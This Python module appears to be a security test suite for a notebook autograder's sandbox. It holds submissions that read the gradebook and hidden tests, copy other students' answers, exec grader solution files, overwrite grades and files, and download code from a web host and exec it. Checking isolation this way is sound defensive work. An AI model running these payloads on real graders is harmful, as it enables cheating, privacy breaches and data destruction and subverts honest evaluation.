"""Files and network: the gradebook, the source, other students' work, the internet."""

from __future__ import annotations

from attacks.support import DERIVATIVES_FROM_TESTS, REPO, Attack, code, read_and_use


def attacks(course: str, bystander: str) -> list[Attack]:
    return [
        Attack("read_gradebook", "sqlite3 on ../../../gradebook.db: hidden tests give references to use", {
            "poly_derivative": "import sqlite3\n" + code(DERIVATIVES_FROM_TESTS) + code('''
                try:
                    _db = sqlite3.connect("file:../../../gradebook.db?mode=ro", uri=True)
                    _sources = [row[0] for row in _db.execute("SELECT source FROM source_cell WHERE name LIKE 'test_%'")]
                    print("BREACH read the gradebook:", len(_sources), "test cells")
                    _found = _answers_from_test_code(_sources)
                    print("BREACH took", _found)
                    for _name in list(_found):
                        _ref = globals()[_name]
                        globals()[_name.removeprefix("_")] = _ref
                except Exception as _error:
                    print("no gradebook:", type(_error).__name__, _error)
                '''),
        }),
        Attack("read_source", "the source notebook (every solution) by paths relative to the working folder, by "
               "the course's absolute path and by the repository's", {
            "poly_derivative": read_and_use(
                repr(["../../../source/ps1_derivatives/ps1_derivatives.ipynb",
                      "../../source/ps1_derivatives/ps1_derivatives.ipynb",
                      f"{course}/source/ps1_derivatives/ps1_derivatives.ipynb",
                      f"{REPO}/source/ps1_derivatives/ps1_derivatives.ipynb"]), "the source notebook"),
        }),
        Attack("read_other_student", "another student's submitted and autograded notebooks, answers copied", {
            "poly_derivative": read_and_use(
                repr([f"../../../submitted/{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                      f"../../{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                      f"{course}/submitted/{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                      f"{course}/autograded/{bystander}/ps1_derivatives/ps1_derivatives.ipynb"]),
                "another student's notebook"),
        }),
        Attack("read_demo_alternatives", "grader/demo/alternatives (complete solutions) imported or read, then exec'd", {
            "poly_derivative": code('''
                import pathlib, collections
                import grader
                _sources = []
                try:
                    from grader.demo.alternatives import load as _load
                    _sources = [a.source for a in _load("ps1_derivatives")]
                    print("BREACH imported grader.demo.alternatives")
                except Exception as _error:
                    print("no import:", type(_error).__name__)
                for _root in [pathlib.Path(grader.__file__).parent, pathlib.Path("/work/main/grader")]:
                    _file = _root / "demo" / "alternatives" / "ps1_derivatives.py"
                    try:
                        _text = _file.read_text()
                    except Exception as _error:
                        print("cannot read", _file, type(_error).__name__)
                        continue
                    print("BREACH read", _file)
                    _scratch = {}
                    exec(_text.replace("from grader.demo.alternatives import Alternative",
                                       "Alternative = __import__('collections').namedtuple('A', 'exercise tag source')"),
                         _scratch)
                    _sources += [a.source for a in _scratch["ALTERNATIVES"]]
                for _source in _sources:
                    try:
                        exec(_source, globals())
                    except Exception:
                        pass
                '''),
        }),
        Attack("write_gradebook", "open(gradebook, 'w') and sqlite3 UPDATEs of every grade", {
            "d_product": code(f'''
                import sqlite3
                for _path in ["../../../gradebook.db", {course + "/gradebook.db"!r}]:
                    try:
                        _db = sqlite3.connect(f"file:{{_path}}?mode=rw", uri=True)
                        _db.execute("UPDATE grade SET manual_score = 100, needs_manual_grade = 0")
                        _db.commit()
                        print("BREACH updated", _path)
                    except Exception as _error:
                        print("no update:", type(_error).__name__, _error)
                    try:
                        with open(_path, "w") as _file:
                            _file.write("gone")
                        print("BREACH overwrote", _path)
                    except Exception as _error:
                        print("no write:", type(_error).__name__)
                d_product = None
                '''),
        }, honest=frozenset({"poly_derivative"})),
        Attack("write_other_students", "overwrite another student's files, the source, release, exchange and config", {
            "d_product": code(f'''
                import glob, os
                _targets = [
                    "../../../submitted/{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                    "../../{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                    "../../../source/ps1_derivatives/ps1_derivatives.ipynb",
                    "../../../nbgrader_config.py",
                    "ps1_derivatives.ipynb",
                    "new_file.txt",
                    "../../../PWNED",
                ] + glob.glob({course!r} + "/**/*.ipynb", recursive=True) + glob.glob({course!r} + "/exchange/**/*", recursive=True)
                for _path in _targets:
                    try:
                        with open(_path, "w") as _file:
                            _file.write("{{}}")
                        print("BREACH wrote", _path)
                    except Exception as _error:
                        print("could not write", _path, type(_error).__name__)
                d_product = None
                '''),
        }, honest=frozenset({"poly_derivative"})),
        Attack("network", "download answers from the internet (TCP, HTTP and DNS)", {
            "poly_derivative": code('''
                import socket, urllib.request
                for _host, _port in [("1.1.1.1", 53), ("8.8.8.8", 53), ("127.0.0.1", 8888)]:
                    try:
                        socket.create_connection((_host, _port), timeout=2).close()
                        print("BREACH connected to", _host, _port)
                    except OSError as _error:
                        print("no connection to", _host, type(_error).__name__)
                try:
                    print("BREACH resolved", socket.gethostbyname("pypi.org"))
                except OSError as _error:
                    print("no DNS:", type(_error).__name__)
                try:
                    _code = urllib.request.urlopen("http://example.com/ps1_derivatives_solutions.py", timeout=3).read()
                    print("BREACH downloaded", len(_code), "bytes")
                    exec(_code, globals())
                except Exception as _error:
                    print("no download:", type(_error).__name__)
                '''),
        }),
    ]
